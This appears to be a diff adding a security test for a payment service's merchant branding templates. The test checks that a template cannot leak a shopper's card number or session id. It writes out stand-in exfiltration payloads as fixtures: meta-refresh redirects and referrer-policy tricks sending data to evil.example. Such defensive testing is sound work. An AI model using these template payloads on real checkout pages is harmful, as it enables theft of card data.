@@ -485,6 +485,21 @@ describe("a branding that means harm", () => {
     assert.match(page.html, /<head>\s*<meta charset="utf-8">\s*<base href="\/">/);
   });
 
+  test("cannot take a card's number away: it is not told, and no page leads elsewhere by itself", async () => {
+    const id = await uploaded(hostile);
+    const meta = '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ model.entered.cardnumber }}">';
+    const refused = await shop.owner("PUT", `/brandings/${id}/templates/layout.liquid`, { body: form(meta) });
+    assert.equal(refused.status, 415, refused.text);
+    const source = `<{{ "META" }} http-equiv=refresh content="0;url=//evil.example/{{ model.session_id }}"><meta/name=referrer
+      content=unsafe-url><a referrerpolicy="unsafe-url" href="//evil.example">x</a>[{{ model.entered.cardnumber }}]
+      <form action="{{ model.form_action }}" method="post"></form>`;
+    await stored(id, "templates/layout.liquid", source);
+    const declined = await submit(await opened({ branding_id: id }), typed("1000000000000016"), /\/pay$/);
+    const [, body = ""] = declined.html.split("<body");
+    assert.match(body, /\[\]/);
+    assert.doesNotMatch(body, /<meta|\sreferrerpolicy|1000 ?0000/i);
+  });
+
   test("reads nothing but what the page is told", async () => {
     const sources = [
       "{{ services }}{{ process.env }}{{ this }}{{ model.constructor }}{{ account }}{{ terms }}{{ branding }}",
